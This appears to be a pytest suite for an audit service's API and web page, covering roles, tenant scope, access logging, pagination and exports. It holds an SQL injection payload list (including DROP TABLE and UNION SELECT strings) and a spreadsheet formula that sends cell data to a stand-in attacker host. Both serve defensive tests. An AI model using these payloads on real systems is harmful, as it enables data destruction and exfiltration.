"""The auditors' API and page: roles, tenant scope, access log, injection, pagination, exports."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest
from fastapi.testclient import TestClient

from audit import database, keys
from audit.api import create_app
from audit.settings import AuditSettings
from audit.writer import AuditWriter
from decision.domain import Outcome, OutcomeStatus
from decision.fleet import Fleet
from tests.test_audit_store import ctx, make_engine

INJECTIONS = ["' OR '1'='1", "acme'; DROP TABLE decision_events; --", "\\x00", "acme\" OR 1=1", "%' --",
              "1) UNION SELECT * FROM api_keys --"]
FILTERS = ["tenant", "region", "site", "tier", "model", "endpoint", "rule", "status", "outcome", "from", "to",
           "cursor"]


@pytest.fixture(scope="module")
def world(pg_url: str, demo_fleet: Fleet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    database.prepare(pg_url)
    w = AuditWriter(pg_url, AuditSettings(spool_dir=tmp_path_factory.mktemp("spool")))
    engine = make_engine(demo_fleet, w)
    ids = []
    for i in range(30):
        d = engine.decide(ctx(i, tenant="acme" if i % 3 else "globex"))
        ids.append(d.decision_id)
        if i % 2:
            engine.report_outcome(Outcome(d.decision_id, OutcomeStatus.OK, ttft_ms=80.0 + i, latency_ms=500))
    assert w.flush(20)
    w.close()
    with psycopg.connect(pg_url, autocommit=True) as conn:
        out = {"url": pg_url, "auditor": keys.create_key(conn, name="a", role="auditor"),
               "admin": keys.create_key(conn, name="b", role="admin"),
               "globex": keys.create_key(conn, name="c", role="auditor", tenant="globex"),
               "acme_id": ids[1], "globex_id": ids[0]}
    yield out


@pytest.fixture(scope="module")
def client(world: dict[str, str]) -> Iterator[TestClient]:
    with TestClient(create_app(world["url"])) as c:
        yield c



def test_the_standalone_app_closes_its_connection_pool_when_it_stops(world: dict[str, str]) -> None:
    app = create_app(world["url"])
    pool = app.state.audit_repo.pool
    with TestClient(app) as c:
        assert c.get("/v1/decisions").status_code == 401  # served (no key), the pool open
        assert not pool.closed
    assert pool.closed

def h(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def test_keys_and_roles(client: TestClient, world: dict[str, str]) -> None:
    assert client.get("/v1/decisions").status_code == 401
    assert client.get("/v1/decisions", headers=h("imk_wrong_key")).status_code == 401
    assert client.get("/v1/decisions", headers={"X-API-Key": world["auditor"]}).status_code == 200
    assert client.post("/v1/admin/retention", json={"retention_days": 30},
                       headers=h(world["auditor"])).status_code == 403
    r = client.post("/v1/admin/retention", json={"retention_days": 30}, headers=h(world["admin"]))
    assert r.status_code == 200 and r.json()["dropped_days"] == []
    with psycopg.connect(world["url"]) as conn:
        stored = [r[0] for r in conn.execute("SELECT key_hash FROM api_keys")]
        logged = conn.execute("SELECT count(*) FROM api_access_log WHERE status = 401").fetchone()
    assert world["auditor"] not in stored and keys.hash_key(world["auditor"]) in stored
    assert logged is not None and logged[0] >= 2


def test_retention_through_the_api_drops_the_old_days_whole(fresh_pg_url: str, demo_fleet: Fleet,
                                                             tmp_path: Path) -> None:
    """Decisions and their outcomes go together, a day at a time, and what is left still verifies."""

    from audit.verify import verify

    database.prepare(fresh_pg_url)
    w = AuditWriter(fresh_pg_url, AuditSettings(spool_dir=tmp_path / "spool"))
    engine = make_engine(demo_fleet, w)
    for i in range(6):
        d = engine.decide(ctx(i, tenant="acme"))
        engine.report_outcome(Outcome(d.decision_id, OutcomeStatus.OK, ttft_ms=90.0, latency_ms=400))
    assert w.flush(20)
    w.close()
    with psycopg.connect(fresh_pg_url, autocommit=True) as conn:
        admin = keys.create_key(conn, name="ops", role="admin")
        scoped = keys.create_key(conn, name="acme-ops", role="admin", tenant="acme")
    today = dt.datetime.now(dt.UTC).date()
    with TestClient(create_app(fresh_pg_url, today=lambda: today + dt.timedelta(days=7))) as client:
        body = {"retention_days": 1}
        assert client.post("/v1/admin/retention", json=body, headers=h(scoped)).status_code == 403  # spans tenants
        assert client.post("/v1/admin/reload", headers=h(scoped)).status_code == 403
        r = client.post("/v1/admin/retention", json=body, headers=h(admin))
        assert r.status_code == 200 and today.isoformat() in r.json()["dropped_days"]
        with psycopg.connect(fresh_pg_url) as conn:
            counts = [conn.execute(f"SELECT count(*) FROM {t}").fetchone() for t in ("decision_events", "outcomes")]
        assert counts == [(0,), (0,)]  # used to keep every decision and delete only the outcomes
        assert verify(fresh_pg_url).ok


def test_hostile_inputs_are_4xx_and_still_logged(client: TestClient, world: dict[str, str]) -> None:
    def logged(part: str) -> int:
        with psycopg.connect(world["url"]) as conn:
            row = conn.execute("SELECT count(*) FROM api_access_log WHERE strpos(path, %s) > 0", (part,)).fetchone()
        return int(row[0]) if row else 0

    before = logged("x\\x00/why")
    assert client.get("/v1/decisions/x%00/why", headers=h("imk_guess")).status_code == 401
    assert logged("x\\x00/why") == before + 1  # a NUL in the path used to make the access go unlogged
    nul_cursor = "MTcwMDAwMDAwMDAwMDAwMHxhAGI"  # base64 of "1700000000000000|a<NUL>b"
    assert client.get("/v1/decisions", params={"cursor": nul_cursor}, headers=h(world["auditor"])).status_code == 422
    far = "f0000000-0000-7000-8000-000000000000"  # a UUIDv7 stamp past datetime's range
    for path in (f"/v1/decisions/{far}", f"/v1/decisions/{far}/why"):
        assert client.get(path, headers=h(world["auditor"])).status_code == 404
    r = client.get("/v1/export", params={"tenat": "acme"}, headers=h(world["auditor"]))  # misspelt: not everything
    assert r.status_code == 422 and "tenat" in r.text
    # A parameter another route takes is no filter here either: refused, not quietly ignored.
    for path, param in (("/v1/stats", "limit"), ("/v1/stats", "cursor"), ("/v1/decisions", "format")):
        r = client.get(path, params={param: "1"}, headers=h(world["auditor"]))
        assert r.status_code == 422 and f"unknown query parameter(s) {param}; known here:" in r.text, (path, r.text)
    # A wrong method or a path no route has is answered, and logged like any other access.
    for method, path, status in (("DELETE", "/v1/decisions", 405), ("POST", "/v1/export", 405),
                                 ("GET", "/v1/decisions/a/b", 404), ("GET", "/v1/stats/", 307),
                                 ("PUT", "/v1/nothing-here", 404)):
        before = logged(path)
        r = client.request(method, path, headers=h(world["auditor"]), follow_redirects=False)
        assert r.status_code == status, (method, path, r.status_code)
        assert logged(path) == before + 1, (method, path)
    assert client.delete("/v1/decisions", headers=h(world["auditor"])).headers["allow"] == "GET"
    with psycopg.connect(world["url"]) as conn:  # under the caller's key, like every other access
        roles = conn.execute("SELECT DISTINCT role FROM api_access_log WHERE path IN "
                             "('/v1/decisions/a/b', '/v1/nothing-here') OR (method = 'DELETE')").fetchall()
    assert roles == [("auditor",)]
    assert client.put("/v1/nothing-here").status_code == 401  # no key: not even which routes exist


def test_csv_cells_that_look_like_formulas_are_exported_as_text(fresh_pg_url: str, demo_fleet: Fleet,
                                                                tmp_path: Path) -> None:
    database.prepare(fresh_pg_url)
    w = AuditWriter(fresh_pg_url, AuditSettings(spool_dir=tmp_path / "spool"))
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    make_engine(demo_fleet, w).decide(dataclasses.replace(ctx(0, tenant="@evil"), request_id=formula))
    assert w.flush(20)
    w.close()
    with psycopg.connect(fresh_pg_url, autocommit=True) as conn:
        key = keys.create_key(conn, name="a", role="auditor")
    with TestClient(create_app(fresh_pg_url)) as client:
        (row,) = csv.DictReader(io.StringIO(client.get("/v1/export", params={"format": "csv"}, headers=h(key)).text))
        assert row["request_id"] == "'" + formula and row["tenant"] == "'@evil"
        (doc,) = [json.loads(line) for line in client.get("/v1/export", headers=h(key)).text.splitlines()]
        assert doc["request_id"] == formula and doc["tenant"] == "@evil"  # JSONL, the evidence copy, stays exact


def test_any_tenant_the_service_accepts_can_be_filtered_on(fresh_pg_url: str, demo_fleet: Fleet,
                                                             tmp_path: Path) -> None:
    database.prepare(fresh_pg_url)
    w = AuditWriter(fresh_pg_url, AuditSettings(spool_dir=tmp_path / "spool"))
    tenants = ["Acme Corp", "müller-gmbh", "t" * 256, "acme"]
    engine = make_engine(demo_fleet, w)
    for i, t in enumerate(tenants):
        engine.decide(ctx(i, tenant=t))
    assert w.flush(20)
    w.close()
    with psycopg.connect(fresh_pg_url, autocommit=True) as conn:
        key = keys.create_key(conn, name="a", role="auditor")
    with TestClient(create_app(fresh_pg_url)) as client:
        for t in tenants:
            r = client.get("/v1/decisions", params={"tenant": t}, headers=h(key))
            assert r.status_code == 200 and [d["tenant"] for d in r.json()["items"]] == [t], (t, r.text)
            r = client.get("/v1/stats", params={"tenant": t}, headers=h(key))
            assert r.status_code == 200 and r.json()["total"] == 1, r.text
        assert client.get("/v1/decisions", params={"tenant": "t" * 257}, headers=h(key)).status_code == 422


def test_tenant_scoped_key_sees_only_its_tenant(client: TestClient, world: dict[str, str]) -> None:
    r = client.get("/v1/decisions", params={"limit": 500}, headers=h(world["globex"]))
    assert r.status_code == 200 and {d["tenant"] for d in r.json()["items"]} == {"globex"}
    assert client.get("/v1/decisions", params={"tenant": "acme"}, headers=h(world["globex"])).status_code == 403
    assert client.get(f"/v1/decisions/{world['acme_id']}", headers=h(world["globex"])).status_code == 404
    assert client.get(f"/v1/decisions/{world['globex_id']}", headers=h(world["globex"])).status_code == 200


def test_pagination_walks_every_decision_once(client: TestClient, world: dict[str, str]) -> None:
    seen: list[str] = []
    cursor = None
    while True:
        params: dict[str, str | int] = {"limit": 7, **({"cursor": cursor} if cursor else {})}
        body = client.get("/v1/decisions", params=params, headers=h(world["auditor"])).json()
        seen += [d["decision_id"] for d in body["items"]]
        cursor = body["next_cursor"]
        if not cursor:
            break
    assert len(seen) == len(set(seen)) == 30


@pytest.mark.parametrize("name", FILTERS)
def test_sql_injection_attempts_on_every_filter(client: TestClient, world: dict[str, str], name: str) -> None:
    for attempt in INJECTIONS:
        r = client.get("/v1/decisions", params={name: attempt}, headers=h(world["auditor"]))
        assert r.status_code in (200, 422), r.text
        if r.status_code == 200:
            assert r.json()["items"] == []
    r = client.get(f"/v1/decisions/{INJECTIONS[0]}", headers=h(world["auditor"]))
    assert r.status_code in (404, 422)
    with psycopg.connect(world["url"]) as conn:
        assert conn.execute("SELECT count(*) FROM decision_events").fetchone() == (30,)


def test_detail_why_stats_and_exports(client: TestClient, world: dict[str, str]) -> None:
    d = client.get(f"/v1/decisions/{world['acme_id']}", headers=h(world["auditor"])).json()
    chosen = d["trace"]["stages"]["choose"]["chosen"]
    assert d["endpoint_id"] == chosen and any(r["role"] == "CHOSEN" for r in d["why"])
    assert d["outcome"]["status"] == "ok"
    why = client.get(f"/v1/decisions/{world['acme_id']}/why", headers=h(world["auditor"])).text
    assert chosen in why and "CHOSEN" in why
    stats = client.get("/v1/stats", headers=h(world["auditor"])).json()
    assert stats["total"] == 30 and stats["decisions"] == {"routed": 30}
    jl = client.get("/v1/export", params={"format": "jsonl", "tenant": "acme"}, headers=h(world["auditor"])).text
    rows = [json.loads(line) for line in jl.splitlines() if line]
    assert len(rows) == 20 and all(r["tenant"] == "acme" for r in rows)
    c = client.get("/v1/export", params={"format": "csv", "outcome": "ok"}, headers=h(world["auditor"]))
    assert c.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(c.text)))
    assert len(table) == 15 and all(r["outcome_status"] == "ok" for r in table)
    assert client.get("/v1/export", params={"format": "xml"}, headers=h(world["auditor"])).status_code == 422
    assert "/v1/decisions" in client.get("/openapi.json").json()["paths"]


def _page(world: dict[str, str], tmp_path: Path, fragment: str) -> tuple[bytes, str]:
    """The auditors' page at ``/audit#<fragment>`` in headless Chromium: (PNG screenshot, DOM)."""
    import threading

    import uvicorn

    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        pytest.skip("Debian's chromium is not installed (apt-get install -y chromium)")
    config = uvicorn.Config(create_app(world["url"]), host="127.0.0.1", port=0, log_level="warning")
    server = uvicorn.Server(config)
    t = threading.Thread(target=server.run, daemon=True)
    t.start()
    while not server.started:
        pass
    port = server.servers[0].sockets[0].getsockname()[1]
    url = f"http://127.0.0.1:{port}/audit#{fragment}"
    flags = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
             "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=5000",
             "--window-size=1280,900"]
    try:
        shot = tmp_path / "page.png"
        subprocess.run([*flags, f"--screenshot={shot}", url], check=True, capture_output=True, timeout=90)
        dom = subprocess.run([*flags, "--dump-dom", url], check=True, capture_output=True, text=True,
                             timeout=90).stdout
    finally:
        server.should_exit = True
        t.join(10)
    return shot.read_bytes(), dom


@pytest.mark.chromium
def test_page_renders_why_this_route_in_headless_chromium(world: dict[str, str], tmp_path: Path) -> None:
    data, dom = _page(world, tmp_path, f"key={world['auditor']}&id={world['acme_id']}")
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
    assert (width, height) == (1280, 900)
    assert len(data) > 20_000  # a blank page compresses to a few KB
    with psycopg.connect(world["url"]) as conn:
        row = conn.execute("SELECT endpoint_id FROM decision_events WHERE decision_id = %s",
                           (world["acme_id"],)).fetchone()
    assert row is not None
    assert 'class="chosen"' in dom and row[0] in dom


@pytest.mark.chromium
def test_page_searches_with_the_filters_a_link_carries(world: dict[str, str], tmp_path: Path) -> None:
    # Tenant, outcome and a local time (sent as an instant with its zone: the browser's local time is not UTC).
    _, dom = _page(world, tmp_path, f"key={world['auditor']}&tenant=globex&outcome=none&from=2000-01-01T00:00")
    body = dom[dom.index('<table id="results">'):dom.index('<button id="more"')]
    rows = re.findall(r'<tr class="pick">(.*?)</tr>', body)
    with psycopg.connect(world["url"]) as conn:
        expected = conn.execute("SELECT count(*) FROM decision_events d WHERE tenant = 'globex' AND NOT EXISTS "
                                "(SELECT 1 FROM outcomes o WHERE o.decision_id = d.decision_id)").fetchone()
    assert expected is not None and len(rows) == expected[0] > 0, dom[-2000:]
    assert all("<td>globex</td>" in r and "<td>-</td>" in r for r in rows)


@pytest.mark.chromium
def test_page_takes_a_links_times_as_instants_and_refuses_what_is_not_a_time(world: dict[str, str],
                                                                           tmp_path: Path) -> None:
    # The API's own form (an instant with its zone) is a time too: it used to be blanked, searching all time.
    _, dom = _page(world, tmp_path, f"key={world['auditor']}&tenant=globex&from=2000-01-01T00:00:00Z"
                                    "&to=2000-01-02T00:00:00%2B00:00")
    body = dom[dom.index('<table id="results">'):dom.index('<button id="more"')]
    assert '<div id="error"></div>' in dom, dom[-2000:]
    assert not re.findall(r'<tr class="pick">', body)  # a day in 2000: nothing, not everything
    _, dom = _page(world, tmp_path, f"key={world['auditor']}&tenant=globex&from=yesterday")
    assert "the link's from is not a time: yesterday" in dom
    body = dom[dom.index('<table id="results">'):dom.index('<button id="more"')]
    assert not re.findall(r'<tr class="pick">', body)  # no search without the filter


def test_checkpoint_lists_every_chain_head_for_unscoped_keys_only(client: TestClient, world: dict[str, str]) -> None:
    from audit.checkpoint import check_heads, parse_heads

    r = client.get("/v1/checkpoint", headers=h(world["auditor"]))
    assert r.status_code == 200 and r.text.startswith("# infermesh audit checkpoint taken ")
    heads = parse_heads(r.text.splitlines(), "/v1/checkpoint")
    assert {(x.table, x.seq) for x in heads} == {("decision_events", 30), ("outcomes", 15)}
    report = check_heads(world["url"], heads)
    assert report.ok and report.checked == 2
    assert client.get("/v1/checkpoint", headers=h(world["globex"])).status_code == 403
    assert client.get("/v1/checkpoint").status_code == 401
    (day,) = {x.day for x in heads}  # the world's decisions are all of one UTC day
    after = day + dt.timedelta(days=1)
    ranged = client.get("/v1/checkpoint", params={"from": str(day), "to": str(day)}, headers=h(world["auditor"]))
    assert ranged.status_code == 200 and parse_heads(ranged.text.splitlines(), "/v1/checkpoint") == heads
    later = client.get("/v1/checkpoint", params={"from": str(after)}, headers=h(world["auditor"]))
    assert later.status_code == 200 and parse_heads(later.text.splitlines(), "/v1/checkpoint") == []
    reversed_ = client.get("/v1/checkpoint", params={"from": str(after), "to": str(day)}, headers=h(world["auditor"]))
    assert reversed_.status_code == 422 and reversed_.json()["detail"].startswith("from: ")
    assert client.get("/v1/checkpoint", params={"to": "soon"}, headers=h(world["auditor"])).status_code == 422


def test_openapi_lets_the_docs_send_a_key_and_describes_parameters_errors_and_bodies(
        client: TestClient, world: dict[str, str]) -> None:
    doc = client.get("/openapi.json").json()
    schemes = doc["components"]["securitySchemes"]
    assert schemes["bearer"] == {**schemes["bearer"], "type": "http", "scheme": "bearer"}
    assert schemes["apiKey"] == {**schemes["apiKey"], "type": "apiKey", "in": "header", "name": "X-API-Key"}
    for path, methods in doc["paths"].items():
        for method, op in methods.items():
            assert {"bearer": []} in op["security"] and {"apiKey": []} in op["security"], (method, path)
            assert "401" in op["responses"], (method, path)
    # What /docs' "Try it out" sends for each scheme is a key this API takes.
    for headers in (h(world["auditor"]), {"X-API-Key": world["auditor"]}):
        assert client.get("/v1/decisions", params={"limit": 1}, headers=headers).status_code == 200
    listing = doc["paths"]["/v1/decisions"]["get"]
    params = {p["name"]: p for p in listing["parameters"] if p["in"] == "query"}
    assert set(params) == {"from", "to", "tenant", "region", "site", "tier", "model", "endpoint", "rule", "status",
                           "outcome", "cursor", "limit"}
    assert all(p.get("description", "").strip() for p in params.values()), [
        n for n, p in params.items() if not p.get("description")]
    assert "zone" in params["from"]["description"] and "none" in params["outcome"]["description"]
    assert params["limit"]["schema"]["maximum"] == 500 and "500" in params["limit"]["description"]
    export = {p["name"]: p for p in doc["paths"]["/v1/export"]["get"]["parameters"]}
    assert export["trace"].get("description") and export["format"].get("description")
    assert {"401", "403", "422"} <= set(listing["responses"])
    assert {"401", "404"} <= set(doc["paths"]["/v1/decisions/{decision_id}"]["get"]["responses"])
    retention = doc["paths"]["/v1/admin/retention"]["post"]
    assert {"401", "403", "422"} <= set(retention["responses"])
    (example,) = retention["requestBody"]["content"]["application/json"]["examples"].values()
    assert set(example["value"]) == {"retention_days"}
    assert {"403", "409", "501"} <= set(doc["paths"]["/v1/admin/reload"]["post"]["responses"])


def test_export_refuses_csv_with_trace_instead_of_dropping_the_trace(client: TestClient,
                                                                    world: dict[str, str]) -> None:
    r = client.get("/v1/export", params={"format": "csv", "trace": "true"}, headers=h(world["auditor"]))
    assert r.status_code == 422 and r.json()["detail"].startswith("trace: ")
    r = client.get("/v1/export", params={"trace": "true", "tenant": "globex"}, headers=h(world["auditor"]))
    rows = [json.loads(line) for line in r.text.splitlines()]
    assert r.status_code == 200 and len(rows) == 10 and all("stages" in row["trace"] for row in rows)


def test_a_date_alone_is_that_utc_day_as_in_the_cli(client: TestClient, world: dict[str, str]) -> None:

    with psycopg.connect(world["url"]) as conn:
        row = conn.execute("SELECT min(decided_at) FROM decision_events").fetchone()
    assert row is not None
    day = row[0].astimezone(dt.UTC).date()
    nxt = day + dt.timedelta(days=1)

    def ids(params: dict[str, str]) -> list[str]:
        r = client.get("/v1/decisions", params={**params, "limit": "500"}, headers=h(world["auditor"]))
        assert r.status_code == 200, (params, r.text)
        return [d["decision_id"] for d in r.json()["items"]]

    whole_day = ids({"from": f"{day}T00:00:00Z", "to": f"{nxt}T00:00:00+00:00"})
    assert whole_day and ids({"from": day.isoformat(), "to": day.isoformat()}) == whole_day  # from=D&to=D: day D
    assert ids({"from": nxt.isoformat()}) == ids({"from": f"{nxt}T00:00:00Z"})
    assert ids({"to": day.isoformat()}) == ids({"to": f"{nxt}T00:00:00Z"})
    r = client.get("/v1/stats", params={"from": day.isoformat()}, headers=h(world["auditor"]))
    assert r.status_code == 200 and r.json()["total"] == 30
    # A time without a zone is UTC, as the CLI takes it (it used to be refused here): see test_audit_time_range.
    assert ids({"from": f"{day}T00:00:00"}) == ids({"from": f"{day}T00:00:00Z"})
    for bad, says in (("yesterday", "from: 'yesterday' is not a date"), ("2026-02-30", "from: '2026-02-30' names no"),
                      ("1764400000", "from: '1764400000' is a number")):
        r = client.get("/v1/decisions", params={"from": bad}, headers=h(world["auditor"]))
        assert r.status_code == 422 and r.json()["detail"].startswith(says), (bad, r.text)
